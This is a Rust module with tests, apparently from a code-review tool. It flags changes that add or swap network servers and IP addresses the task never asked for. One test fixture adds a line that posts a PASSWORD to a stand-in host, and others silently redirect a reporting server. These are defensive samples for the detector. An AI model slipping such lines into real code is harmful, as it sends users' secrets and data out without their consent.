//! Servers in code and settings that a change puts in the place of others, or adds, without being
//! asked to.
//!
//! The words are those of `assets/findings/addresses.toml`. What a script of the host reaches is
//! told by [`host_code`](super::host_code).

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use regex::Regex;
use serde::Deserialize;

use super::commands::hosts;
use super::network_use::is_near;
use super::source::SourceText;
use super::{Subject, beyond_task};
use crate::model::{Finding, FindingLevel, FindingPlace, ProjectPath};
use crate::text::shipped::shipped_table;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Addresses {
    asked: Vec<String>,
    network: Vec<String>,
    sends: Vec<String>,
    calls: Vec<String>,
    harmless: Vec<String>,
}

static KNOWN: LazyLock<Option<Addresses>> =
    LazyLock::new(|| shipped_table(include_str!("../../../assets/findings/addresses.toml")));

/// What to do about a server that nobody asked for.
const UNASKED: &str = "The task does not ask for it. Make sure that this server is meant.";

/// Shortest word that two names have in common by more than chance.
const SHORTEST: usize = 4;

/// What is to be said of the servers that a change brings in.
pub(super) fn find(path: &ProjectPath, subject: &Subject<'_>) -> Option<Finding> {
    let known = KNOWN.as_ref()?;
    let source = subject.source().filter(|_| is_read(path))?;
    let task = subject.context.person_words();
    let speaks = |of: &[String]| words(&task).any(|word| of.iter().any(|of| is_form_of(word, of)));
    if let Some((line, number)) = number(path, subject).filter(|_| !speaks(&known.asked)) {
        let text = format!("sends to an address that is new: `{number}`");
        let finding = Finding::new(FindingLevel::Warning, text).at(FindingPlace::line(line));
        return Some(finding.advice(UNASKED));
    }
    if !source.text.contains("://") {
        return None;
    }
    let new = of_lines(source, &subject.changed().added);
    let (line, (host, text)) = {
        let was = subject.base_source().map(all).unwrap_or_default();
        let is_new = |host: &str| !was.contains(host) && !is_near(host);
        new.into_iter().find(|(_, (host, _))| is_new(host))?
    };
    if speaks(&known.asked) || is_named(&task, &host, &text) {
        return None;
    }
    let stays = all(source);
    let gone = subject.base_source().map(|base| of_lines(base, &subject.changed().removed));
    let gone = gone.unwrap_or_default().into_values().find(|(was, _)| !stays.contains(was));
    let text = match gone {
        Some((was, _)) => format!("changes the server from `{was}` to `{host}`"),
        None if sends(path, source.text) && !known.is_harmless(&host) => {
            // A task about a page is none about what the page sends.
            let sends_already = || {
                let base = subject.base_text().unwrap_or_default();
                known.calls.iter().any(|call| base.contains(call.as_str()))
            };
            let is_sending = || speaks(&known.sends) && !sends_already();
            let is_asked_for = !is_page(path) && (speaks(&known.network) || is_sending());
            (!is_asked_for).then(|| format!("names a server that is new: `{host}`"))?
        }
        None => return None,
    };
    let at = FindingPlace::line(line);
    Some(Finding::new(FindingLevel::Warning, text).at(at).advice(UNASKED))
}

/// A number of a host out there that code holds now and did not before, and its line, from 1.
fn number(path: &ProjectPath, subject: &Subject<'_>) -> Option<(u32, String)> {
    static NUMBER: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(
            r#"(?x)\b(?:inet_(?:addr|aton|pton)|ipaddr_addr|ip4addr_aton|esp_ip4addr_aton)\s*\([^;"\n]*"(?P<text>\d{1,3}(?:\.\d{1,3}){3})"
            |\bIPAddress\s*(?:\w+\s*)?[({]\s*(?P<list>\d{1,3}(?:\s*,\s*\d{1,3}){3})\s*[)}]
            |\bs_addr\s*=\s*(?:(?P<swap>htonl)\s*\(\s*)?0[xX](?P<hex>[0-9a-fA-F]{7,8})\b"#,
        )
        .ok()
    });
    let source = subject.source().filter(|_| beyond_task::is_code(path))?;
    let all = |source: &SourceText<'_>| -> Vec<(u32, String)> {
        let code = source.code_of_any();
        if !["addr", "IPAddress", "inet_"].iter().any(|part| code.contains(part)) {
            return Vec::new();
        }
        let found = NUMBER.iter().flat_map(|pattern| pattern.captures_iter(&code));
        let found = found.filter_map(|groups| {
            let line = source.number_at(groups.get(0)?.start());
            if let Some(hex) = groups.name("hex") {
                let value = u32::from_str_radix(hex.as_str(), 16).ok()?;
                let bytes = match groups.name("swap") {
                    Some(_) => value.to_be_bytes(),
                    None => value.to_le_bytes(),
                };
                return Some((line, bytes.map(|byte| byte.to_string()).join(".")));
            }
            let text = groups.name("text").or_else(|| groups.name("list"))?;
            Some((
                line,
                text.as_str().split([',', '.']).map(str::trim).collect::<Vec<_>>().join("."),
            ))
        });
        found.collect()
    };
    let is = all(source);
    let was = subject.base_source().filter(|_| !is.is_empty()).map(all).unwrap_or_default();
    is.into_iter().find(|(line, number)| {
        let first: u32 = number.split('.').next().and_then(|n| n.parse().ok()).unwrap_or(0);
        // From 224 on a number names a group, or everybody.
        let is_far = first < 224 && !is_near(number);
        let is_known = was.iter().any(|(_, known)| known == number);
        // Name servers that everybody may ask.
        let is_usual = matches!(number.as_str(), "8.8.8.8" | "8.8.4.4" | "1.1.1.1" | "9.9.9.9");
        is_far && !is_known && !is_usual && subject.changed().added.contains(line)
    })
}

impl Addresses {
    fn is_harmless(&self, host: &str) -> bool {
        let is =
            |of: &String| host == of || host.strip_suffix(of).is_some_and(|h| h.ends_with('.'));
        self.harmless.iter().any(is)
    }
}

/// Whether a file is code, or a page that sends something by itself.
fn sends(path: &ProjectPath, text: &str) -> bool {
    const CALLS: [&str; 6] =
        ["sendBeacon", "fetch(", "XMLHttpRequest", "WebSocket", "new Image", "EventSource"];
    beyond_task::is_code(path) || is_page(path) && CALLS.iter().any(|call| text.contains(call))
}

fn is_page(path: &ProjectPath) -> bool {
    matches!(path.extension(), Some("html" | "htm" | "js" | "ts"))
}

/// Whether a file is code or settings of the program.
fn is_read(path: &ProjectPath) -> bool {
    let name = path.file_name();
    let ends = ["json", "toml", "ini", "yml", "yaml", "properties", "env"];
    let is_settings = path.extension().is_some_and(|end| ends.contains(&end));
    let is_of_build = path.as_str().split('/').any(|part| part.starts_with('.'))
        || name.starts_with("idf_component")
        || name.contains("lock")
        || name == "library.json";
    beyond_task::is_code(path)
        || is_page(path)
        || name.starts_with("Kconfig")
        || name.starts_with("sdkconfig")
        || is_settings && !is_of_build
}

fn all(source: &SourceText<'_>) -> BTreeSet<String> {
    hosts(&source.code_of_any()).collect()
}

/// The first host of each of these lines, and the line.
fn of_lines(source: &SourceText<'_>, lines: &BTreeSet<u32>) -> BTreeMap<u32, (String, String)> {
    let code = source.code_of_any();
    let wanted = (1..).zip(code.lines()).filter(|(number, _)| lines.contains(number));
    wanted
        .filter_map(|(number, line)| Some((number, (hosts(line).next()?, line.to_lowercase()))))
        .collect()
}

/// Whether a task has a word of a host, or of the name that the line gives it.
fn is_named(task: &str, host: &str, line: &str) -> bool {
    const USUAL: [&str; 12] = [
        "example", "default", "config", "define", "const", "char", "static", "string", "https",
        "http", "code", "value",
    ];
    let name = line.split("://").next().unwrap_or_default();
    let of: BTreeSet<&str> = words(host).chain(words(name)).collect();
    let tells = |word: &&str| word.len() >= SHORTEST && !USUAL.contains(word);
    let own: Vec<&str> = words(task).filter(tells).collect();
    let mut of = of.into_iter().filter(tells);
    of.any(|part| own.iter().any(|word| part.contains(word) || word.contains(part)))
}

/// Whether a word is a form of another one: a short one, such as "log", is not the beginning of others.
fn is_form_of(word: &str, of: &str) -> bool {
    let is_short = of.len() <= SHORTEST;
    word == of || if is_short { word.strip_suffix('s') == Some(of) } else { word.starts_with(of) }
}

fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !c.is_alphanumeric() && c != '-').filter(|word| !word.is_empty())
}

#[cfg(test)]
mod tests {
    use super::super::test_changes;
    use crate::model::CheckKind;

    fn reported(path: &str, old: &str, new: &str, task: &str) -> Vec<String> {
        let all = test_changes::reported(CheckKind::BeyondTask, (path, Some(old), new), task);
        all.into_iter().filter(|found| found.contains("server")).collect()
    }

    #[test]
    fn a_server_that_nobody_asked_to_change_is_a_warning() {
        let old = "int a;\n#define REPORT \"https://kiln.example.com/in\"\n";
        let new = old.replace("kiln.example.com", "stats.other.example");
        let found = |task: &str| reported("net.c", old, &new, task);
        let wanted =
            "Warning 2: changes the server from `kiln.example.com` to `stats.other.example`";
        assert_eq!(found("Make the display brighter"), [wanted]);
        for task in ["Use the new server", "stats go to Other now", "change the report", ""] {
            assert_eq!(found(task), [] as [String; 0], "{task}");
        }
        let other = old.replace("/in", "/v2");
        assert_eq!(reported("net.c", old, &other, "x"), [] as [String; 0], "the same server");
        let near = old.replace("kiln.example.com", "192.168.4.1");
        assert_eq!(reported("net.c", old, &near, "x"), [] as [String; 0]);
        let comment = format!("{old}// see https://docs.other.example/a\n");
        assert_eq!(reported("net.c", old, &comment, "x"), [] as [String; 0]);
        let json = ("{\"u\": \"mqtt://a.example\"}\n", "{\"u\": \"mqtt://b.example\"}\n");
        assert_eq!(reported("data/config.json", json.0, json.1, "dim the led").len(), 1);
        assert_eq!(reported(".vscode/a.json", json.0, json.1, "dim the led").len(), 0);
    }

    #[test]
    fn a_server_of_what_runs_on_a_board_is_told() {
        let old = "import network\nimport requests\nURL = \"https://kiln.example.com/in\"\n\n\
                   def send(mv):\n    requests.post(URL, json={\"mv\": mv})\n";
        let found = |new: &str, task: &str| -> Vec<String> {
            let all =
                test_changes::reported(CheckKind::BeyondTask, ("main.py", Some(old), new), task);
            all.into_iter().filter(|found| !found.starts_with("Note")).collect()
        };
        let task = "Read the password from a file";
        let other = old.replace("kiln.example.com", "stats.other.example");
        assert_eq!(found(&other, task).len(), 1);
        let more =
            format!("{old}    requests.post(\"https://stats.other.example\", data=PASSWORD)\n");
        assert_eq!(found(&more, task).len(), 1, "{:?}", found(&more, task));
        assert_eq!(found(&old.replace("mv):", "mv, t):"), task), [] as [String; 0]);
    }

    #[test]
    fn numbers_of_hosts_out_there_are_told() {
        let found = |line: &str, task: &str| {
            let new = format!("int a;\nvoid f(void) {{ {line} }}\n");
            let all = test_changes::reported(
                CheckKind::BeyondTask,
                ("net.c", Some("int a;\n"), &new),
                task,
            );
            all.into_iter().filter(|found| found.contains("address")).collect::<Vec<_>>()
        };
        let wanted = "Warning 2: sends to an address that is new: `203.0.113.77`";
        for line in [
            "to.sin_addr.s_addr = inet_addr(\"203.0.113.77\");",
            "inet_pton(AF_INET, \"203.0.113.77\", &to.sin_addr);",
            "to.sin_addr.s_addr = 0x4D7100CB;",
            "to.sin_addr.s_addr = htonl(0xCB00714D);",
            "IPAddress to(203, 0, 113, 77);",
        ] {
            assert_eq!(found(line, "Publish the peak"), [wanted], "{line}");
            assert_eq!(found(line, "Use the new server"), [] as [String; 0], "{line}");
        }
        for line in [
            "to.sin_addr.s_addr = inet_addr(\"192.168.4.1\");",
            "IPAddress dns(8, 8, 8, 8);",
            "IPAddress mask(255, 255, 255, 0);",
            "to.sin_addr.s_addr = htonl(INADDR_ANY);",
            "to.sin_addr.s_addr = inet_addr(\"239.255.0.1\");",
        ] {
            assert_eq!(found(line, "Publish the peak"), [] as [String; 0], "{line}");
        }
    }

    #[test]
    fn a_server_that_comes_in_needs_a_task_about_the_network() {
        let old = "int a;\n";
        let found = |host: &str, task: &str| {
            let new = format!("{old}const char *u = \"https://{host}/a\";\n");
            reported("led.c", old, &new, task)
        };
        let wanted = "Warning 2: names a server that is new: `stats.other.example`";
        assert_eq!(found("stats.other.example", "Blink the led"), [wanted]);
        assert_eq!(found("stats.other.example", "Publish the state"), [] as [String; 0]);
        assert_eq!(found("pool.ntp.org", "Blink the led"), [] as [String; 0]);
        let sends = "void f(void) { esp_mqtt_client_publish(c, t, j, n, 0, 0); }\n";
        let second = format!("{sends}const char *u = \"mqtt://stats.other.example\";\n");
        let all = reported("led.c", sends, &second, "Round the published power");
        assert_eq!(all, ["Warning 2: names a server that is new: `stats.other.example`"]);
        assert_eq!(found("docs.espressif.com", "Blink the led"), [] as [String; 0]);
        assert_eq!(found("notespressif.com", "Blink the led").len(), 1);
        assert_eq!(found("lamp.example", "Blink the lamp"), [] as [String; 0]);
    }
}
